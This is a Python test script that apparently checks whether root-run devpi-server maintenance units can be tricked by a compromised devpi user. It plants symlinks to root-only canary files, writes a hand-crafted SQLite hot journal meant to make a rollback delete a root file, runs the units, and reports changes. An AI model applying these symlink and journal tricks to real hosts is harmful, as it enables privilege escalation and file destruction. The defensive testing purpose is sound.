# Copyright: (c) 2026, The wheelhouse founders
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Whoever broke into devpi-server puts links to what is root's wherever the programs of the host may look.

`links.py names CHECKOUT` prints the names that programs and tasks use, read from their code, one on each line. On the
server, as root, `links.py plant ROUND NAMES` lets the user devpi put links there, `links.py run` runs each unit of the
host that works with the data, and `links.py look` prints what of the host is not as before, as JSON, and takes the
links away.
"""

from __future__ import annotations

import ast
import contextlib
import hashlib
import json
import os
import re
import shutil
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

DATA = Path("/var/lib/devpi")
#: Root's alone: a folder, a text and a database.
CANARY = Path("/srv/canary")
BEFORE = Path("/srv/canary.json")
#: What is compared, and what in there changes by itself.
HOST = ("/boot", "/etc", "/home", "/opt", "/root", "/srv/canary", "/usr")
MOVING = re.compile(
    r"/__pycache__|/root/\.(ansible|cache)|/opt/devpi/(current$|releases/other)|/etc/(mtab|ld\.so\.cache)$"
)
#: Each leaves devpi something to work with, so that programs come as far as they can.
ROUNDS = ("beside", "files", "database")
UNITS = ("devpi-switch", "devpi-switch-recover", "devpi-backup", "devpi-backup-drill", "devpi-health", "devpi")
API = "unix:///run/devpi/devpi.sock"
PROGRAMS = ("roles/devpi_server/files", "roles/devpi_backup/files")


def names(checkout: Path) -> list[str]:
    """Return the names that programs and tasks of the host join to a folder, and those of dot-files and +files."""
    found = set()
    for folder in PROGRAMS:
        for path in (checkout / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                if (
                    isinstance(node, ast.BinOp)
                    and isinstance(node.op, ast.Div)
                    and isinstance(node.right, ast.Constant)
                ):
                    found.add(node.right.value)
                elif isinstance(node, ast.Constant) and re.fullmatch(r"[.+][a-z_]+", str(node.value)):
                    found.add(str(node.value))
    for path in (checkout / "roles").glob("devpi_*/tasks/*.yml"):
        found |= set(re.findall(r"directory }}/([A-Za-z.+_-]+)", path.read_text()))
        found |= set(re.findall(r"(?<![\w/.-])(\.[a-z_]{4,})(?![\w(])", path.read_text()))
    plain = {name for name in map(str, found) if re.fullmatch(r"[.+a-zA-Z][.+\w-]*", name)}
    return sorted(
        {f"{name}{end}" for name in plain for end in (("", "-journal", "-wal") if "sqlite" in name else ("",))}
    )


def run(*words: str) -> int:
    """Run a command and return its status."""
    return subprocess.run(words, check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode


def listed() -> dict[str, Any]:
    """Return owner and mode of everything that is compared, with the content of what an attacker would want."""
    found: dict[str, Any] = {}
    for top in HOST:
        for folder, folders, files in os.walk(top):
            for name in ["", *folders, *files]:
                path = os.path.join(folder, name) if name else folder
                if MOVING.search(path):
                    continue
                status = os.lstat(path)
                is_file = stat.S_ISREG(status.st_mode) and path.startswith(("/etc", "/root", "/srv"))
                content = hashlib.sha256(Path(path).read_bytes()).hexdigest() if is_file else ""
                found[path] = [status.st_uid, status.st_gid, oct(status.st_mode), content]
    return found


def make_canary() -> None:
    """Make what must stay as it is, and look at the host."""
    shutil.rmtree(CANARY, ignore_errors=True)
    for folder in (CANARY, CANARY / "folder"):
        folder.mkdir(mode=0o700)
    for path in (CANARY / "text", CANARY / "folder/text"):
        path.write_text("root's")
        path.chmod(0o600)
    with contextlib.closing(sqlite3.connect(CANARY / "database")) as database:
        database.execute("CREATE TABLE kv (key)")
        database.commit()
    (CANARY / "database").chmod(0o600)
    BEFORE.write_text(json.dumps(listed()))


def plant(which: str, wanted: list[str]) -> None:
    """Put the links there, as devpi. Says how many, and where it may not."""
    there = {entry.name for entry in DATA.iterdir()}
    database = {name for name in [*there, *wanted] if "sqlite" in name or name in (".nodeinfo", ".serverversion")}
    places: list[tuple[Path, Path]] = []
    targets = (CANARY / "folder", CANARY / "text")
    if which == "beside":
        places += [
            (DATA / name, targets[number % 2]) for number, name in enumerate(wanted) if name not in there | database
        ]
        places += [(DATA / ".before", CANARY / "folder")]
        folders = [DATA / "+files", *(DATA / "+files").glob("*/*")]
        places += [(folder / f"to-{target.name}", target) for folder in folders for target in targets]
        places += [(DATA / ".before" / name, CANARY / "folder") for name in wanted]
    elif which == "files":
        places = [(DATA / "+files", CANARY / "folder")]
    else:
        places = [(DATA / name, CANARY / ("database" if "sqlite" in name else "text")) for name in sorted(database)]
    os.setgroups([])
    os.setgid(DATA.stat().st_gid)
    os.setuid((DATA / ".event_serial").stat().st_uid)
    planted, refused = 0, []
    for place, target in places:
        try:
            if os.path.lexists(place):
                place.rename(place.with_name(f"{place.name}.real"))
            place.symlink_to(target)
            planted += 1
        except OSError:
            refused.append(str(place.relative_to(DATA)))
    if which == "beside":
        plant_journal()
    print(json.dumps({"round": which, "planted": planted, "refused": len(refused)}), flush=True)


def plant_journal() -> None:
    """Put a database there whose hot journal names a super-journal, which whoever rolls it back removes."""
    path, page = DATA / ".evil", 4096
    with contextlib.closing(sqlite3.connect(path)) as database:
        database.execute("CREATE TABLE kv (key)")
        database.commit()
    name = str(CANARY / "text").encode()
    header = bytes.fromhex("d9d505f920a163d7") + b"".join(
        number.to_bytes(4, "big") for number in (0, 0, path.stat().st_size // page, 512, page)
    )
    record = (0x40000000 // page + 1).to_bytes(4, "big") + name + len(name).to_bytes(4, "big")
    record += sum(name).to_bytes(4, "big") + bytes.fromhex("d9d505f920a163d7")
    path.with_name(".evil-journal").write_bytes(header.ljust(512, b"\0") + record)


def run_units() -> None:
    """Run every unit that works with the data, however it ends."""
    current = Path("/opt/devpi/current").resolve()
    other = current.with_name("other")
    if not other.exists():
        run("cp", "-al", str(current), str(other))
    plan = {
        "release": str(other), "current": "/opt/devpi/current", "data": str(DATA), "user": "devpi",
        "configuration": "/etc/devpi/devpi-server.yml", "unit": "devpi.service", "pauses": ["devpi-health.timer"],
        "api": API, "start_timeout": 60, "limit": 300, "kept": 3,
    }  # fmt: skip
    Path("/var/lib/devpi-switch/plan.json").write_text(json.dumps(plan))
    came = {unit: run("timeout", "300", "systemctl", "restart", f"{unit}.service") for unit in UNITS}
    run("systemctl", "stop", "devpi.service")
    print(json.dumps(came), flush=True)


def look() -> None:
    """Print what is not as before, take the links away, and start devpi again."""
    before, now = json.loads(BEFORE.read_text()), listed()
    changed = {
        path: [before.get(path), now.get(path)]
        for path in before.keys() | now.keys()
        if before.get(path) != now.get(path)
    }
    print(json.dumps({"changed": changed}), flush=True)
    run("systemctl", "stop", "devpi.service")
    for path in [*DATA.iterdir(), *(DATA / "+files").rglob("*")]:
        if path.is_symlink() or path.name.startswith(".evil"):
            path.unlink()
    for path in DATA.iterdir():
        if path.name.endswith(".real"):
            path.rename(path.with_name(path.name[: -len(".real")]))
    run("systemctl", "reset-failed")
    run("systemctl", "start", "devpi.service", "devpi-health.timer")


if __name__ == "__main__":
    if sys.argv[1] == "names":
        print("\n".join(names(Path(sys.argv[2]))))
    elif sys.argv[1] == "plant":
        make_canary()
        plant(sys.argv[2], sys.argv[3].splitlines())
    elif sys.argv[1] == "run":
        run_units()
    else:
        look()
